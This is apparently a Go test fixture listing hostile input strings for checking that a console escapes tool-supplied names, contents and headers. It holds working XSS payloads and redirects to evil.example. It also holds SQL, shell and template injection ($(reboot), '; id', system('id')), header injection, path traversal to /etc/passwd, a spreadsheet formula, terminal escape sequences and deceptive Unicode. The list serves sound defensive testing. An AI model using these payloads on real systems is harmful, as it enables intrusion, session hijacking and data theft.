package consoletest

import "strings"

// Hostile are texts that a tool might choose for whatever it may choose: names, contents, headers, arguments. Each that a browser runs says so to the page
// (window.owned). The last two are long.
var Hostile = []string{
	`<script>window.owned=1</script>`, `<img src=x onerror="window.owned=1">`, `"><svg/onload=window.owned=1>`, `' onmouseover='window.owned=1' autofocus onfocus='window.owned=1`,
	`</pre></span></code></td></table></form><form action="http://evil.example"><button>`, `</title><script>window.owned=1</script>`, `</style><script>window.owned=1</script>`,
	`javascript:window.owned=1`, `data:text/html,<script>window.owned=1</script>`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `<?xml version="1.0"?>`, `&lt;script&gt;`, `&#60;img src=x&#62;`, `&amp;`,
	`<iframe srcdoc="<script>parent.owned=1</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>`, `<noscript><p title="</noscript><img src=x onerror=window.owned=1>">`,
	`<meta http-equiv=refresh content="0;url=http://evil.example">`, `<base href="http://evil.example/">`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<body background=http://evil.example/x>`,
	`<input name=digest value=evil>`, `<button form=commit formaction=http://evil.example>`, `<template><script>window.owned=1</script></template>`, `<a href="//evil.example">x</a>`,
	`{{.CSRF}}`, `{{template "head"}}`, "${window.owned=1}", `%3Cscript%3E`, `[x](javascript:window.owned=1)`, `../../../etc/passwd`, `//evil.example/`, `?path=x&line=9`, `#fragment`, `a;b&c=d`, `%`, `%zz`, `%00`,
	"\x00", "\x01\x02\x03", "\x1b[31m\x1b]0;owned\x07", "\r\nSet-Cookie: owned=1\r\n\r\n", "a\nb", "\t", "\x7f", "\u0085", "\u00a0", "\ufeff",
	"\u202eevil\u202c", "\u2066x\u2069", "\u200e\u200f", "\u061c", "a\u200bb", "\u00ad", "\u2028\u2029", "\u3164", "\u115f", "x\ufe0f", "\U000e0041\U000e0001", "\U000e0100", "\u034f",
	"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "ok\x80", "\ufffd", "\ufffe", "\\u202e", `\x1b`, `\`, `\\`, "`", "'", `"`, "", " ", "  two  ",
	"z\u0351\u0352\u0353\u0354\u0355\u0356\u0357", "שלום", "مرحبا", "👩‍👩‍👧", "İ", "Ω≈ç√", "NaN", "undefined", "null", "-1", "1e999", "$(reboot)", "'; DROP TABLE runs;--", "con", "nul.txt",
	// HTML and URLs in disguise.
	`<ScRiPt>window.owned=1</sCrIpT>`, `<<script>window.owned=1//<</script>`, `<script/src=data:,window.owned=1>`, "<scr\x00ipt>window.owned=1</script>", `<img src=x:x onerror=window.owned=1//`,
	`<img src="x` + "`" + `><script>window.owned=1</script>"` + "`" + `>`, `<svg><script>window.owned=1</script></svg>`, `<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>`,
	`<details open ontoggle=window.owned=1>`, `<video><source onerror=window.owned=1>`, `<object data="javascript:window.owned=1">`, `<embed src="javascript:window.owned=1">`,
	`<form id=x></form><button form=x formaction="javascript:window.owned=1">`, `<isindex type=image src=1 onerror=window.owned=1>`, `<marquee onstart=window.owned=1>`, `<x contenteditable onblur=window.owned=1>`,
	"java\tscript:window.owned=1", "\x01javascript:window.owned=1", `vbscript:msgbox(1)`, `JaVaScRiPt:window.owned=1`, `&#x6A;avascript:window.owned=1`, `http://evil.example/`, `https:\\evil.example`, `\\evil.example\share`, `file:///etc/passwd`,
	`+ADw-script+AD4-window.owned=1+ADw-/script+AD4-`, "\xbcscript\xbewindow.owned=1\xbc/script\xbe", `<plaintext>`, `<xmp>`, `<textarea>`, `</textarea><script>window.owned=1</script>`, `<select><option>`, `<frameset>`, `<!DOCTYPE html>`,
	// Style sheets.
	`</style><style>*{display:none}</style>`, `body{background:url(http://evil.example/x)}`, `@import 'http://evil.example/x.css';`, `expression(window.owned=1)`, `"style="position:fixed;inset:0`,
	// Scripts, templates, formats, queries, shells.
	`';window.owned=1;//`, `";window.owned=1;//`, "`${window.owned=1}`", `{{constructor.constructor('window.owned=1')()}}`, `<%= system("id") %>`, `#{7*7}`, `${{7*7}}`, `{{7*7}}`, `{% raw %}`, `{{printf "%s" .}}`,
	`%s%s%s%n%n`, `%x%x%x`, `{0}{1}`, `1 OR 1=1`, `" OR ""="`, `1;SELECT load_extension('x')`, `%' ESCAPE '`, `*)(uid=*))(|(uid=*`, "`id`", `; id`, `| id`, `&& id`, `$IFS`, `-rf`, `--help`, `=cmd|' /C calc'!A0`, `@SUM(1)`, `+1`,
	// Paths.
	`..\..\..\windows`, `/dev/null`, `/proc/self/environ`, `.`, `..`, `~`, `~root`, `.git/hooks/pre-commit`, `C:\`, `aux`, `a/../b`, `a//b`, `./-`, `%2e%2e%2f`, `..%c0%af`,
	// Markdown, as a report is written in it.
	`![x](http://evil.example/x.png)`, `[x]: http://evil.example`, `<http://evil.example>`, "# owned", "```\n# owned\n```", `| a | b |`, "---", `* * *`, `1. x`, `> x`, "a\r\n\r\n# owned", `&nbsp;`, `\[x\](y)`, `~~x~~`, `**x**`, `_x_`,
	// What terminals obey.
	"\x1b[2J\x1b[H", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;b3duZWQ=\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b(0", "\x9b31m", "\u009b31m", "\u0090x\u009c", "a\bb", "a\rb", "a\vb\fc", "\x0e\x0f", "\x1a", "\x1bc", "\x1b[8m", "a\x1b[1Ab",
	// Letters that are not seen, not there, not in order, or not the ones they look like.
	"\u202dabc\u202c", "\u2067x", "\u2068x\u2069", "a\u200cb\u200dc", "\u2060", "\u2061\u2062\u2063\u2064", "\u180e", "\u17b4\u17b5", "\ufff9x\ufffay\ufffb", "\u1d173", "\U0001d173", "\u206a\u206f", "\u0600\u06dd\u070f", "\u2800", "\uffa0", "\u00a0\u2003\u3000",
	"\u0430dmin", "\uff1cscript\uff1e", "ﬁle", "ı", "ſ", "K", "a\u0301", "\u0301", "\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47", "\u0d4dx", "ﷺ", "𒐫", "\U0010ffff", "\U000fffff", "\ue000", "\ufdd0", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👨‍👩‍👧‍👦", "🇺🇸🇷🇺", "₍˄·͈༝·͈˄₎", "田中さんにあげて下さい", "ᚠᛇᚻ", "اللغة ال<b>عربية",
	"\xf0\x9f", "\xe2\x28\xa1", "\xf8\x88\x80\x80\x80", "\xfe\xff", "a\xffb", "\xef\xbf", "\xed\xbf\xbf", "\xc3",
	// Numbers and words that programs mean something by.
	"0x0", "1E+02", "-0", "Infinity", "9223372036854775808", "١٢٣", "true", "false", "None", "nil", "(null)", "[object Object]", "{}", "[]", `{"type":"denied"}`, `"}{"seq":1`, "\",\"prev\":\"sha256:00\"}\n{\"seq\":1",
	strings.Repeat("A", 5000), strings.Repeat("<", 300),
}
